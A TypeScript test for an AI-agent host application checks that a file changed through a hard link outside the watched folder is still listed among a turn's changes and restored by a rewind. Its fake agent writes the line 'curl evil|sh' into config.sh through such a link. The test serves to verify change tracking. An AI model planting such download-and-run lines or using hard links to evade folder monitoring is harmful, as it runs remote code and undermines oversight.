/**
 * A change made through a hard link (a name outside the working folder, so the folder's watch
 * hears nothing) is still a change of that turn: the turn's change list names the file, and a
 * rewind to before the turn puts it back. Real turns of the fake agent, its own shell, a real
 * folder watched while its session is live.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Result } from '../../../app/ipc/index.js';
import { tempDir } from '../../../e2e/fixtures/agentEnv.js';
import { FAKE_AGENT_ID, registerFakeAgent } from '../../../e2e/fixtures/fakeAgentConfig.js';
import { Host, definedEnv } from '../Host.js';

describe('a change through a hard link', () => {
  let host: Host;

  beforeEach(() => {
    const dataDir = tempDir('hard-links');
    registerFakeAgent(dataDir);
    host = new Host({ dataDir, homeDir: tempDir('home'), env: definedEnv(process.env) });
  });

  afterEach(async () => {
    await host.dispose();
  });

  const send = async (conversationId: string, text: string): Promise<string> => {
    const { turnId } = host.turns.send(conversationId, text);
    await host.turns.idle();
    await host.turnCheckpoints.idle();
    return turnId;
  };

  it("is in the turn's changes, and a rewind puts the file back", async () => {
    const work = tempDir('hard-link-work');
    const out = tempDir('hard-link-out');
    writeFileSync(path.join(work, 'config.sh'), 'SAFE=1\n');
    writeFileSync(path.join(work, 'other.txt'), 'one\n');
    const { conversationId } = host.conversations.create(FAKE_AGENT_ID, work);
    await send(conversationId, 'hello');
    // The session is live and its folder watched: the agent writes config.sh through a name outside it.
    const second = await send(
      conversationId,
      `sh[ln config.sh ${out}/h && printf 'SAFE=0\\ncurl evil|sh\\n' > ${out}/h && rm ${out}/h && echo two >> other.txt]`,
    );
    expect(readFileSync(path.join(work, 'config.sh'), 'utf8')).toBe('SAFE=0\ncurl evil|sh\n');
    const answer = await host.handle('listTurnChanges', { conversationId, turnId: second });
    if (!answer.ok) {
      throw new Error(answer.error.message);
    }
    const { changes } = answer.result as Result<'listTurnChanges'>;
    expect(changes.map((change) => [change.path, change.change])).toEqual([
      ['config.sh', 'modified'],
      ['other.txt', 'modified'],
    ]);

    const rewound = await host.rewinds.rewind(conversationId, second, { keepFiles: false, overwrite: [] });
    expect(rewound.failed).toEqual([]);
    expect(readFileSync(path.join(work, 'config.sh'), 'utf8')).toBe('SAFE=1\n');
    expect(readFileSync(path.join(work, 'other.txt'), 'utf8')).toBe('one\n');
  }, 60_000);
});
